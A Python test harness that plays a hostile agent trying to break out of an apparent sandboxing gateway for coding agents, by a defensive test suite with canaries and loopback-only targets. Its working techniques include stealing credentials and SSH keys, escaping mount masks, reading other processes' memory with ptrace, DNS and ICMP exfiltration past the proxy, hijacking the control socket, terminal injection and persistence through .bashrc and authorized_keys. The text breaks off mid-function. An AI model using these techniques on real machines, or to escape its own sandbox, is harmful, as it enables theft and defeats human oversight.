"""A hostile agent: tries to read secrets, to reach the network past the gateway, to take control, to harm.

It reads `plan.json` in its own folder (what an attacker would know of the machine: paths, ports, process numbers), makes one
attempt after the other, each in a process of its own with a time-out, and prints one JSON line for each with what it got.
Whether an attempt succeeded is judged from outside (`judge.py`): by canaries in the output, by hits at servers of the test,
by changed files and processes. It touches no address but those of the plan, which exist on the loopback interface alone.
"""

import ctypes
import errno
import fcntl
import glob
import json
import os
import re
import resource
import select
import signal
import socket
import struct
import subprocess
import sys
import termios
import time

HERE = os.path.dirname(os.path.abspath(__file__))
P = {}
BYTES_MAX = 2000
SECONDS_MAX = 20
# What was standard input when we were started.
STDIN = 9
# Who started us.
PARENT = os.getppid()
ATTACKS = []

libc = ctypes.CDLL(None, use_errno=True)
NEWUSER, NEWNS, NEWNET, NEWCGROUP = 0x10000000, 0x20000, 0x40000000, 0x02000000
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MNT_DETACH = 1, 32, 4096, 16384, 2
ARM = os.uname().machine == "aarch64"
SYS = {"keyctl": 219 if ARM else 250, "pidfd_open": 434, "pidfd_getfd": 438, "open_tree": 428, "mount_setattr": 442}


def attack(name, tries):
    def add(function):
        ATTACKS.append((name, tries, function))
        return function

    return add


def check(value):
    if value < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return value


def call(name, *arguments):
    libc.syscall.restype = ctypes.c_long
    return check(libc.syscall(ctypes.c_long(SYS[name]), *arguments))


def read(path, bound=BYTES_MAX):
    with open(path, "rb") as file:
        return file.read(bound).decode("utf-8", "replace")


def each(*steps):
    """The outcome of every step; one that fails hinders none of the others."""
    got = []
    for step in steps:
        try:
            got.append(str(step()))
        except Exception as error:
            got.append(f"{type(error).__name__}: {error}")
    return " | ".join(got)


def hit(name):
    return f"HIT:{name}".encode()


def namespaces(flags):
    """Namespaces of our own, in which we are root."""
    uid, gid = os.getuid(), os.getgid()
    check(libc.unshare(flags | NEWUSER))
    for file, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        try:
            with open(f"/proc/self/{file}", "w") as out:
                out.write(text)
        except OSError:
            # The capabilities are there all the same.
            pass


def mount(source, target, kind, flags=0, data=None):
    encoded = [text.encode() if text is not None else None for text in (source, target, kind, data)]
    return check(libc.mount(encoded[0], encoded[1], encoded[2], ctypes.c_ulong(flags), encoded[3]))


# ---- reading secrets: files -------------------------------------------------------------------------------------------


def plain_file(name, key, what):
    attack(name, f"reads {what}")(lambda: read(P[key]))


for entry in (
    ("file-env", "env", "the `.env` of the project"),
    ("file-env-in-subfolder", "env_sub", "an `.env` in a subfolder of the project"),
    ("file-env-deep", "env_deep", "an `.env` six folders deep in the project"),
    ("file-env-of-the-repository", "env_repo", "the `.env` at the root of the repository above the work folder"),
    ("file-env-of-another-project", "env_other", "the `.env` of another project in the user's home"),
    ("file-npmrc", "npmrc", "~/.npmrc"),
    ("file-netrc", "netrc", "~/.netrc"),
    ("file-pypirc", "pypirc", "~/.pypirc"),
    ("file-git-credentials", "git_credentials", "~/.git-credentials"),
    ("file-aws", "aws", "~/.aws/credentials"),
    ("file-gh", "gh", "the GitHub CLI's log-in"),
    ("file-docker", "docker", "~/.docker/config.json"),
    ("file-kube", "kube", "~/.kube/config"),
    ("file-agent-login", "claude", "the log-in of a coding agent"),
    ("file-ssh-key", "ssh", "~/.ssh/id_ed25519"),
    ("file-history", "history", "~/.bash_history"),
    ("file-browser", "browser", "cookies of a browser profile"),
    ("file-keyring", "keyring", "the desktop's keyring file"),
    ("file-git-remote", "git_config", "a token in the remote URL of .git/config"),
    ("file-other-programs-tmp", "tmp", "another program's file in /tmp"),
    ("file-shared-memory", "shm", "another program's file in /dev/shm"),
    ("file-runtime-folder", "xdg_secret", "a token in $XDG_RUNTIME_DIR"),
    ("file-shadow", "shadow", "/etc/shadow"),
):
    plain_file(*entry)


@attack("file-other-logins", "reads log-ins of a dozen other programs")
def file_other_logins():
    return each(*(lambda path=path: read(P["home"] + "/" + path) for path in P["other_logins"]))


@attack("file-other-histories", "reads histories of other shells and tools")
def file_other_histories():
    return each(*(lambda path=path: read(P["home"] + "/" + path) for path in P["other_histories"]))


@attack("link-in-hidden", "reads a key where a link in ~/.ssh leads to")
def link_in_hidden():
    return read(P["dotfiles_key"])


@attack("own-environment", "reads its own environment")
def own_environment():
    return read("/proc/self/environ", 30_000)


@attack("file-vault", "reads the vault and the key that opens it")
def file_vault():
    return each(lambda: open(P["vault_key"], "rb").read().hex(), lambda: read(P["vault_db"], 64))


@attack("file-audit", "reads the record of what other agents did")
def file_audit():
    return "".join(read(path, 300) for path in glob.glob(P["state"] + "/audit/*/*"))


@attack("link-hard", "gives a masked file another name")
def link_hard():
    os.link(P["netrc"], P["work"] + "/linked")
    return read(P["work"] + "/linked")


@attack("link-symbolic", "reads a masked file through a link in the work folder")
def link_symbolic():
    os.symlink(P["ssh"], P["work"] + "/symlink")
    return read(P["work"] + "/symlink")


@attack("rename-parent", "renames the folder of a masked file")
def rename_parent():
    os.rename(P["work"] + "/r1", P["work"] + "/r1-moved")
    return read(P["work"] + "/r1-moved/.env")


@attack("rename-away", "renames a masked file")
def rename_away():
    os.rename(P["work"] + "/r2/.env", P["work"] + "/r2/plain")
    return read(P["work"] + "/r2/plain")


@attack("rename-exchange", "exchanges a masked file with one of its own")
def rename_exchange():
    decoy = P["work"] + "/r3/decoy"
    open(decoy, "w").close()
    check(libc.renameat2(-100, (P["work"] + "/r3/.env").encode(), -100, decoy.encode(), 2))
    return read(decoy)


@attack("unlink-mask", "removes the mask, and reads what comes to light")
def unlink_mask():
    path = P["work"] + "/r4/.env"
    held = open(path, "rb")
    return each(lambda: os.unlink(path), lambda: read(path), lambda: held.read(BYTES_MAX).decode())


@attack("next-run", "moves a masked file to where the next run does not look, and reads it then")
def next_run():
    away = P["work"] + "/node_modules/r6"
    os.makedirs(os.path.dirname(away), exist_ok=True)
    return each(lambda: os.rename(P["work"] + "/r6", away), lambda: read(away + "/.env"), lambda: read(P["work"] + "/r6/.env"))


def saved(folder):
    """Asks the user's editor to replace a masked file, and waits until it has."""
    open(f"{P['work']}/{folder}/ask-save", "w").close()
    until(lambda: os.path.exists(f"{P['work']}/{folder}/ask-save.done"))


@attack("save-anew", "reads a masked file after the user's editor has replaced it")
def save_anew():
    saved("r5")
    time.sleep(0.5)
    return read(P["work"] + "/r5/.env")


@attack("save-anew-nested", "waits for that in a mount namespace of its own, where no mask is laid again")
def save_anew_nested():
    try:
        namespaces(NEWNS)
    except OSError:
        pass
    saved("r8")
    time.sleep(0.5)
    return read(P["work"] + "/r8/.env")


@attack("plant-link", "has the next run show what is hidden, by a link that is named like a file with credentials")
def plant_link():
    targets = {"vault": P["vault_key"], "history": P["history"], "ssh": P["ssh"], "maps": "/proc/self/environ"}

    def follow(name, target):
        link = f"{P['work']}/.env.{name}"
        if not os.path.lexists(link):
            os.symlink(target, link)
        return read(link)

    return each(*(lambda name=name, target=target: follow(name, target) for name, target in targets.items()))


@attack("save-anew-race", "reads it as fast as it can while the user's editor replaces it")
def save_anew_race():
    got = set()
    before = read(P["work"] + "/r7/.env")
    for number in range(20):
        watcher = os.fork()
        if watcher == 0:
            end = time.monotonic() + 2
            while time.monotonic() < end:
                text = read(P["work"] + "/r7/.env")
                if text != before:
                    write(f"{P['work']}/r7/got-{number}", text)
                    break
            os._exit(0)
        saved("r7")
        os.waitpid(watcher, 0)
        try:
            got.add(read(f"{P['work']}/r7/got-{number}"))
            break
        except OSError:
            os.unlink(P["work"] + "/r7/ask-save.done")
    return repr(got)


def until(condition, seconds=12):
    end = time.monotonic() + seconds
    while not condition() and time.monotonic() < end:
        time.sleep(0.02)


@attack("mirror", "reads the same file by another mount of its file system")
def mirror():
    return each(lambda: read(P["mirror"] + "/.ssh/id_ed25519"), lambda: read(P["mirror"] + "/.netrc"))


@attack("nested-umount", "lifts masks in a mount namespace of its own")
def nested_umount():
    namespaces(NEWNS)
    steps = []
    for path in (P["env"], os.path.dirname(P["ssh"]), P["work"], P["home"]):
        steps.append(lambda path=path: check(libc.umount2(path.encode(), MNT_DETACH)))
    return each(*steps, lambda: read(P["env"]), lambda: read(P["ssh"]))


@attack("nested-bind", "binds the folder below a mask to another place")
def nested_bind():
    namespaces(NEWNS)
    place = P["work"] + "/bound"
    os.makedirs(place, exist_ok=True)
    got = []
    for source, file in ((P["work"], ".env"), (P["home"], ".ssh/id_ed25519"), ("/", P["ssh"].lstrip("/"))):
        got.append(each(lambda: mount(source, place, None, MS_BIND), lambda: read(place + "/" + file)))
    return " | ".join(got)


@attack("nested-overlay", "lays an overlay over the folder of a masked file")
def nested_overlay():
    namespaces(NEWNS)
    place = P["work"] + "/over"
    for name in ("", "-up", "-work"):
        os.makedirs(place + name, exist_ok=True)
    got = []
    for lower, file in ((P["work"], ".env"), (P["home"], ".ssh/id_ed25519")):
        data = f"lowerdir={lower},upperdir={place}-up,workdir={place}-work,userxattr"
        got.append(each(lambda: mount("overlay", place, "overlay", 0, data), lambda: read(place + "/" + file)))
    return " | ".join(got) + " | " + each(lambda: read(P["ssh"]))


@attack("nested-open-tree", "takes a detached copy of the tree below a mask")
def nested_open_tree():
    namespaces(NEWNS)
    got = []
    for folder, file in ((P["work"], ".env"), (P["home"], ".ssh/id_ed25519")):
        try:
            tree = call("open_tree", -100, folder.encode(), 1)
            got.append(os.read(os.open(file, os.O_RDONLY, dir_fd=tree), BYTES_MAX).decode())
        except OSError as error:
            got.append(str(error))
    return " | ".join(got)


@attack("nested-remount", "makes what is read-only writable in a namespace of its own")
def nested_remount():
    namespaces(NEWNS)
    return each(
        lambda: mount(None, "/", None, MS_REMOUNT | MS_BIND),
        lambda: mount(None, P["home"], None, MS_REMOUNT | MS_BIND),
        lambda: write(P["home"] + "/remounted", "EFFECT:nested-remount\n"),
    )


@attack("file-handle", "opens a key by its file handle, noted earlier")
def file_handle():
    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("octets", ctypes.c_ubyte * 128)]

    octets = bytes.fromhex(P["handle"])
    handle = Handle(len(octets), P["handle_kind"], (ctypes.c_ubyte * 128)(*octets))
    at = os.open(P["work"], os.O_RDONLY)

    def go():
        return os.read(check(libc.open_by_handle_at(at, ctypes.byref(handle), os.O_RDONLY)), BYTES_MAX).decode()

    return each(go, lambda: namespaces(NEWNS), go)


@attack("proc-self-root", "goes round by /proc/self/root and its kin")
def proc_self_root():
    roots = ("/proc/self/root", "/proc/thread-self/root", "/proc/self/cwd/../../../../../../..", "/dev/fd/../root")
    return each(*(lambda root=root: read(root + P["ssh"]) for root in roots))


@attack("proc-1-root", "reads by the root folder of other processes")
def proc_roots():
    return each(*(lambda pid=pid: read(f"/proc/{pid}/root{P['ssh']}") for pid in ["1", str(P["victim"]), str(os.getppid())]))


@attack("file-descriptors", "uses descriptors that were left open to it")
def file_descriptors():
    got = []
    for number in sorted(int(name) for name in os.listdir("/proc/self/fd")):
        if number > 2 and number != STDIN:
            got.append(each(lambda: os.pread(number, BYTES_MAX, 0).decode(errors="replace")))
            got.append(each(lambda: os.read(os.open("id_ed25519", os.O_RDONLY, dir_fd=number), BYTES_MAX).decode()))
    return " | ".join(got)


@attack("stdin-is-a-folder", "walks from a folder on standard input to its neighbours")
def stdin_folder():
    return each(
        lambda: os.read(os.open(".ssh/id_ed25519", os.O_RDONLY, dir_fd=STDIN), BYTES_MAX).decode(),
        lambda: os.read(os.open("../.ssh/id_ed25519", os.O_RDONLY, dir_fd=STDIN), BYTES_MAX).decode(),
    )


@attack("block-device", "reads the disk below the file system")
def block_device():
    def disk(path):
        with open(path, "rb") as file:
            return os.pread(file.fileno(), 64, P["disk_offset"]).hex()

    def made():
        path = P["work"] + "/disk"
        os.mknod(path, 0o600 | 0o060000, os.makedev(*P["disk_numbers"]))
        return disk(path)

    return each(lambda: disk(P["disk"]), made)


# ---- reading secrets: processes ---------------------------------------------------------------------------------------


def others():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


@attack("proc-environ", "reads the environment of every process")
def proc_environ():
    found = []
    for pid in {*others(), P["victim"], P["gateway"]}:
        try:
            found += re.findall(r"[A-Z_]*VICTIM[A-Z_]*=[^\0]*", read(f"/proc/{pid}/environ", 100_000))
        except OSError:
            pass
    return " ".join(found)


@attack("proc-other-session", "takes another agent's session token out of its environment")
def proc_session():
    try:
        return " ".join(re.findall(r"OTHER_SESSION=[^\0]*", read(f"/proc/{P['victim']}/environ", 100_000)))
    except OSError as error:
        return str(error)


@attack("proc-cmdline", "reads the arguments of every process")
def proc_cmdline():
    lines = [each(lambda: read(f"/proc/{pid}/cmdline", 4000)) for pid in {*others(), P["victim"]}]
    return " ".join(line for line in lines if "secret-argument" in line)


def memory(pid):
    """Writable regions that may hold what the victim read."""
    for line in read(f"/proc/{pid}/maps", 1_000_000).splitlines():
        span, rights = line.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if rights.startswith("rw") and end - start <= 64 << 20:
            yield start, end


def marked(octets):
    return [found.decode() for found in re.findall(rb"MEMORY-MARK-[!-~]{8,80}", octets)]


@attack("proc-mem", "reads another process's memory by /proc/PID/mem")
def proc_mem():
    found = []
    with open(f"/proc/{P['victim']}/mem", "rb", 0) as file:
        for start, end in memory(P["victim"]):
            try:
                found += marked(os.pread(file.fileno(), end - start, start))
            except OSError:
                pass
    return " ".join(found)[:BYTES_MAX]


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


@attack("process-vm-readv", "reads another process's memory by its address")
def vm_readv():
    buffer = ctypes.create_string_buffer(200)
    ours, theirs = Vector(ctypes.addressof(buffer), 200), Vector(P["address"], 200)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    check(libc.process_vm_readv(P["victim"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0))
    return " ".join(marked(buffer.raw))


@attack("ptrace", "stops another process and reads its memory word by word")
def ptrace():
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    check(libc.ptrace(16, P["victim"], None, None))
    os.waitpid(P["victim"], 0x40000000)
    octets = b""
    for offset in range(0, 200, 8):
        octets += struct.pack("q", libc.ptrace(2, P["victim"], P["address"] + offset, None))
    libc.ptrace(17, P["victim"], None, None)
    return " ".join(marked(octets))


@attack("pidfd-getfd", "takes an open file out of another process")
def pidfd_getfd():
    number = call("pidfd_getfd", call("pidfd_open", P["victim"], 0), P["victim_fd"], 0)
    return os.pread(number, BYTES_MAX, 0).decode()


@attack("proc-fd", "opens another process's files by /proc/PID/fd")
def proc_fd():
    return each(*(lambda pid=pid: read(f"/proc/{pid}/fd/{P['victim_fd']}") for pid in (P["victim"], 1)))


@attack("proc-cwd", "enters a folder by another process's current folder")
def proc_cwd():
    return read(f"/proc/{P['victim']}/cwd/id_ed25519")


@attack("proc-of-the-gateway", "reads memory, environment and files of the gateway and of its own parent")
def proc_gateway():
    got = []
    for pid in {P["gateway"], PARENT, 1}:
        got.append(each(lambda: read(f"/proc/{pid}/environ", 20_000)))
        got.append(each(lambda: "".join(read(path) for path in glob.glob(f"/proc/{pid}/fd/*")[:3])))
        try:
            with open(f"/proc/{pid}/mem", "rb", 0) as file:
                for start, end in memory(pid):
                    octets = os.pread(file.fileno(), end - start, start)
                    got += [part.decode("utf-8", "replace") for part in re.findall(rb"gh" rb"p_[0-9A-Za-z]{36}", octets)]
        except OSError as error:
            got.append(str(error))
    return " | ".join(got)


@attack("core-dump", "makes another process dump its memory into the work folder")
def core_dump():
    os.kill(P["dumper"], signal.SIGABRT)
    # The file is whole when its process is gone, or is no more than a name that waits for its parent.
    until(lambda: not os.path.exists(f"/proc/{P['dumper']}") or ") Z" in read(f"/proc/{P['dumper']}/stat"))
    found = []
    for path in glob.glob(P["work"] + "/cores/core*"):
        with open(path, "rb") as file:
            found += marked(file.read())
    return " ".join(found)[:BYTES_MAX]


@attack("user-keyring", "reads the user's keys out of the kernel")
def user_keyring():
    call("keyctl", 1, None)
    call("keyctl", 8, -4, -3)
    key = call("keyctl", 10, -3, b"user", b"hostile-canary", 0)
    buffer = ctypes.create_string_buffer(200)
    call("keyctl", 11, key, buffer, 200)
    return buffer.value.decode()


@attack("shared-memory-segment", "attaches a System V memory segment of another program")
def shared_memory():
    libc.shmat.restype = ctypes.c_void_p
    segment = check(libc.shmget(P["shm_key"], 0, 0))
    return ctypes.string_at(libc.shmat(segment, None, 0o10000), 100).decode(errors="replace")


# ---- the network past the gateway -------------------------------------------------------------------------------------


def tcp(name, address, port, family=socket.AF_INET, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as link:
        link.settimeout(2)
        link.connect((address, port))
        link.sendall(hit(name))
        return link.recv(200).decode(errors="replace")


def udp(name, address, port, family=socket.AF_INET, protocol=0):
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as link:
        link.settimeout(1)
        link.sendto(hit(name), (address, port))
        return link.recv(200).decode(errors="replace")


def network(name, tries, function):
    attack(name, tries)(lambda: function(name))


V6 = socket.AF_INET6
network("tcp-v4", "connects to an address, without the proxy", lambda n: tcp(n, P["v4"], P["tcp"]))
network("tcp-v6", "the same by IPv6", lambda n: tcp(n, P["v6"], P["tcp"], V6))
network("tcp-mapped", "the same by an IPv4 address in IPv6", lambda n: tcp(n, "::ffff:" + P["v4"], P["tcp"], V6))
network("tcp-multipath", "the same by multipath TCP", lambda n: tcp(n, P["v4"], P["tcp"], protocol=262))
network("tcp-port-443", "the same to the port of HTTPS", lambda n: tcp(n, P["v4"], 443))
network("tcp-host-loopback", "connects to a service on the host's loopback", lambda n: tcp(n, "127.0.0.1", P["tcp"]))
network("tcp-host-loopback-v6", "the same by IPv6", lambda n: tcp(n, "::1", P["tcp"], V6))
network("tcp-zero-address", "the same by 0.0.0.0", lambda n: tcp(n, "0.0.0.0", P["tcp"]))
network(
    "tcp-diversion-port",
    "connects to the port that everything is brought to",
    lambda n: each(lambda: tcp(n, "127.0.0.1", 1), lambda: tcp(n, "::1", 1, V6)),
)
network("tcp-metadata", "asks the cloud's metadata service", lambda n: tcp(n, "169.254.169.254", 80))
network("udp-v4", "sends a datagram", lambda n: udp(n, P["v4"], P["udp"]))
network("udp-v6", "the same by IPv6", lambda n: udp(n, P["v6"], P["udp"], V6))
network("udp-host-loopback", "sends a datagram to the host's loopback", lambda n: udp(n, "127.0.0.1", P["udp"]))
network("quic-port-443", "sends a datagram to the port of HTTP/3", lambda n: udp(n, P["v4"], 443))
network("udp-lite", "sends by UDP-Lite", lambda n: udp(n, P["v4"], P["udplite"], protocol=136))


@attack("tcp-fast-open", "sends data with the first segment")
def fast_open():
    with socket.socket() as link:
        link.sendto(hit("tcp-fast-open"), 0x20000000, (P["v4"], P["tcp"]))
        return link.recv(200).decode()


def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\0\0\x01\0\x01"


def ask(name, server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(1)
        link.sendto(question(f"{name}.exfiltrated.test"), (server, 53))
        return link.recv(500).hex()


network("dns-other-server", "asks another name server", lambda n: ask(n, P["v4"]))
network("dns-tunnel", "carries data out in names that the machine's own resolver is asked for", lambda n: ask(n, "127.0.0.1"))


@attack("dns-over-tcp", "asks another name server by TCP")
def dns_tcp():
    with socket.socket() as link:
        link.settimeout(2)
        link.connect((P["v4"], 53))
        octets = question("dns-over-tcp.exfiltrated.test") + hit("dns-over-tcp")
        link.sendall(struct.pack("!H", len(octets)) + octets)
        return link.recv(200).hex()


def echo_request(text):
    body = b"\x08\0\0\0\0\x07\0\x01" + text + b"\0" * (len(text) % 2)
    total = sum(struct.unpack(f"!{len(body) // 2}H", body))
    total = (total & 0xFFFF) + (total >> 16)
    return body[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + body[4:]


@attack("icmp", "carries data in a ping")
def icmp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as link:
        link.settimeout(1)
        link.sendto(echo_request(hit("icmp")), (P["v4"], 0))
        return link.recv(200).hex()


@attack("raw-socket", "writes packets by hand")
def raw_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as link:
        link.settimeout(1)
        link.sendto(echo_request(hit("raw-socket")), (P["v4"], 0))
        return link.recv(200).hex()


@attack("packet-socket", "listens to what other programs send")
def packet_socket():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as link:
        link.settimeout(0.5)
        end = time.monotonic() + 3
        while time.monotonic() < end:
            found = re.search(rb"WIRE-[0-9a-zA-Z]+", link.recv(4000))
            if found:
                return found[0].decode()
    return "nothing"


def unix(name, address):
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(2)
        link.connect(address)
        link.sendall(hit(name))
        return link.recv(200).decode()


network("unix-abstract", "connects to an abstract socket (D-Bus, X11, containerd)", lambda n: unix(n, "\0" + P["abstract"]))
network("unix-home", "connects to a socket in the home (docker, editors, agents)", lambda n: unix(n, P["unix_home"]))
network("unix-runtime", "connects to a socket in $XDG_RUNTIME_DIR (ssh-agent, D-Bus, systemd)", lambda n: unix(n, P["unix_xdg"]))
network("unix-tmp", "connects to a socket in /tmp (tmux, X11, ssh-agent)", lambda n: unix(n, P["unix_tmp"]))
network("unix-run", "connects to a socket in /run (docker, containerd)", lambda n: unix(n, P["unix_run"]))
network("unix-work", "connects to a socket of another program in the work folder", lambda n: unix(n, P["unix_work"]))
network("unix-mirror", "connects to a socket by another mount of its file system", lambda n: unix(n, P["mirror"] + "/host.sock"))


@attack("unix-late", "connects to a socket that was bound after the start")
def unix_late():
    open(P["work"] + "/ask-socket", "w").close()
    until(lambda: os.path.exists(P["unix_late"]))
    time.sleep(1)
    return unix("unix-late", P["unix_late"])


@attack("unix-late-race", "connects to a socket at once when it has been bound")
def unix_late_race():
    open(P["work"] + "/ask-second-socket", "w").close()
    end = time.monotonic() + 12
    while time.monotonic() < end:
        try:
            return unix("unix-late-race", P["unix_late2"])
        except OSError as error:
            if error.errno not in (errno.ENOENT, errno.ECONNREFUSED, errno.EACCES):
                raise


@attack("unix-datagram", "sends to a datagram socket of the host (syslog, journal, notify)")
def unix_datagram():
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as link:
        link.sendto(hit("unix-datagram"), P["unix_datagram"])
        return "sent"


@attack("vsock", "talks past the network to the machine's own host")
def vsock():
    with socket.socket(40, socket.SOCK_STREAM) as link:
        link.settimeout(1)
        link.connect((1, P["vsock"]))
        link.sendall(hit("vsock"))
        return "connected"


@attack("proxy-to-loopback", "lets the gateway connect to the host's loopback and to bare addresses")
def proxy_loopback():
    got = []
    for address in ("127.0.0.1", P["v4"], "localhost", "[::1]", "169.254.169.254"):
        port = 80 if address.startswith("169") else P["tcp"]
        proxy = re.match(r"https?://(?:([^@]*)@)?([^:/]+):(\d+)", os.environ.get("HTTPS_PROXY", ""))
        try:
            if not proxy:
                got.append(tcp("proxy-to-loopback", address.strip("[]"), port, V6 if "[" in address else socket.AF_INET))
                continue
            import base64

            words = base64.b64encode((proxy[1] or "").encode()).decode()
            with socket.create_connection((proxy[2], int(proxy[3])), 2) as link:
                link.sendall(f"CONNECT {address}:{port} HTTP/1.1\r\nHost: {address}:{port}\r\nProxy-Authorization: Basic {words}\r\n\r\n".encode())
                link.settimeout(1)
                got.append(link.recv(60).decode(errors="replace"))
                link.sendall(hit("proxy-to-loopback"))
                got.append(link.recv(60).decode(errors="replace"))
        except OSError as error:
            got.append(str(error))
    return " | ".join(got)


@attack("http-without-proxy", "forgets the proxy variables and asks by plain HTTP")
def without_proxy():
    for name in [name for name in os.environ if "proxy" in name.lower()]:
        del os.environ[name]
    with socket.create_connection((P["v4"], P["tcp"]), 2) as link:
        link.sendall(b"GET /HIT:http-without-proxy HTTP/1.1\r\nHost: collector.test\r\n\r\n")
        return link.recv(200).decode(errors="replace")


@attack("netlink", "changes routes and rules of its network")
def netlink():
    with socket.socket(16, socket.SOCK_RAW, 0) as link:
        link.bind((0, 0))
        # RTM_DELROUTE of the local route for everything, RTM_DELADDR of 127.0.0.1/8.
        route = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 255, 0, 0, 0, 0)
        link.send(struct.pack("IHHII", 16 + len(route), 25, 5, 1, 0) + route)
        answer = link.recv(500)
    return f"{struct.unpack('i', answer[16:20])[0]} | " + each(lambda: tcp("netlink", P["v4"], P["tcp"]))


@attack("setns", "enters the host's namespaces by another process")
def setns():
    got = []
    for pid in (P["victim"], 1, os.getppid()):
        for kind in ("user", "net", "mnt", "pid"):
            got.append(each(lambda: check(libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0))))
    return each(lambda: tcp("setns", P["v4"], P["tcp"])) + " | " + " | ".join(got)


@attack("io-uring-connect", "lets the kernel open a connection past the filter of system calls")
def io_uring():
    class Parameters(ctypes.Structure):
        _fields_ = [("words", ctypes.c_uint32 * 30)]

    libc.syscall.restype = ctypes.c_long
    ring = check(libc.syscall(ctypes.c_long(425), 4, ctypes.byref(Parameters())))
    return f"RING-OPEN {ring}"


# ---- taking control ---------------------------------------------------------------------------------------------------


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a") as file:
        file.write(text)
    return f"written {path}"


def writes(name, tries, path):
    attack(name, tries)(lambda: write(path(), f"\n# EFFECT:{name}\n"))


@attack("control-socket", "asks the gateway's control socket for a session of another agent")
def control_socket():
    body = json.dumps({"agent": "trusted"}).encode()
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(2)
        link.connect(P["state"] + "/api.sock")
        head = f"POST /v1/sessions HTTP/1.1\r\nHost: valetkey\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        link.sendall(head.encode() + body)
        got = b""
        while chunk := link.recv(4000):
            got += chunk
    return got.decode(errors="replace")[:BYTES_MAX]


def command(*words):
    done = subprocess.run(words, capture_output=True, timeout=5, text=True, stdin=subprocess.DEVNULL)
    return (done.stdout + done.stderr)[:BYTES_MAX]


@attack("cli-session", "starts a session of another agent with the command line")
def cli_session():
    return command(P["valetkey"], "session", "start", "--agent", "trusted", "--json")


@attack("cli-credentials", "lists credentials with the command line")
def cli_credentials():
    return command(P["valetkey"], "credential", "list", "--json")


@attack("cli-stop-others", "stops another agent with the command line")
def cli_stop():
    return command(P["valetkey"], "stop", "--agent", "trusted", "--json")


writes("policy-edit", "writes into the configuration", lambda: P["config"])
writes("policy-state", "writes into the gateway's home", lambda: P["state"] + "/dropped")
PLANTED = """version: 1
agents:
  planted:
    permissions: [{ service: github, actions: [read, write, delete], resources: ["*"] }]
"""


@attack("policy-plant", "plants a configuration for the next run")
def policy_plant():
    return write(P["work"] + "/valetkey.yaml", PLANTED)


@attack("policy-rename", "replaces the configuration by renaming it")
def policy_rename():
    new = P["work"] + "/new.yaml"
    write(new, read(P["config"], 100_000) + "# EFFECT:policy-rename\n")
    os.rename(new, P["config"] + ".d")
    os.rename(P["config"] + ".d", P["config2"])
    return "renamed"


@attack("policy-rename-folder", "replaces the configuration by renaming its folder")
def policy_rename_folder():
    folder = os.path.dirname(P["config"])
    text = read(P["config"], 100_000)
    os.rename(folder, folder + "-old")
    return write(P["config"], text + "\n# EFFECT:policy-rename-folder\n")


@attack("deputy-receipt", "lets the gateway write its receipt over a file of the user's, by a link")
def deputy_receipt():
    def plant():
        if os.path.lexists(P["receipt"]):
            os.unlink(P["receipt"])
        os.symlink(P["users_file"], P["receipt"])

    return each(lambda: write(P["users_file"], "EFFECT"), plant)


@attack("terminal-input", "types into the terminal that it was started from (TIOCSTI)")
def terminal_input():
    terminal = os.open("/dev/tty", os.O_RDWR)
    for letter in b"TYPED\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
    return "typed"


@attack("terminal-other", "writes to another terminal of the user")
def terminal_other():
    number = os.open(P["pts"], os.O_WRONLY | os.O_NOCTTY)
    os.write(number, hit("terminal-other") + b"\n")
    return "written"


@attack("proc-fd-write", "writes into another process's pipe")
def proc_fd_write():
    with open(f"/proc/{P['victim']}/fd/{P['victim_pipe']}", "wb", 0) as file:
        file.write(hit("proc-fd-write"))
    return "written"


# ---- harm, and staying ------------------------------------------------------------------------------------------------

writes("stay-bashrc", "adds LD_PRELOAD to the user's shell", lambda: P["home"] + "/.bashrc")
writes("stay-environment", "adds LD_PRELOAD to the user's session", lambda: P["home"] + "/.config/environment.d/x.conf")
writes("stay-systemd", "adds a unit to the user's service manager", lambda: P["home"] + "/.config/systemd/user/x.service")
writes("stay-autostart", "adds a program to the desktop's start", lambda: P["home"] + "/.config/autostart/x.desktop")
writes("stay-path", "puts a `git` of its own into the user's PATH", lambda: P["home"] + "/.local/bin/git")
writes("stay-authorized-keys", "lets a key of its own log in", lambda: P["home"] + "/.ssh/authorized_keys")
writes("stay-gitconfig", "adds a program to git's configuration", lambda: P["home"] + "/.gitconfig")
writes("stay-other-project", "changes another project of the user", lambda: P["home"] + "/other/Makefile")


@attack("stay-git-config", "adds a program to a repository's configuration that the user's next git runs")
def stay_git_config():
    def put(path):
        return lambda: write(path, "\n# EFFECT:stay-git-config\n")

    def replace():
        new = P["repo"] + "/.git/config.new"
        write(new, "\n# EFFECT:stay-git-config\n")
        os.rename(new, P["repo"] + "/.git/config")

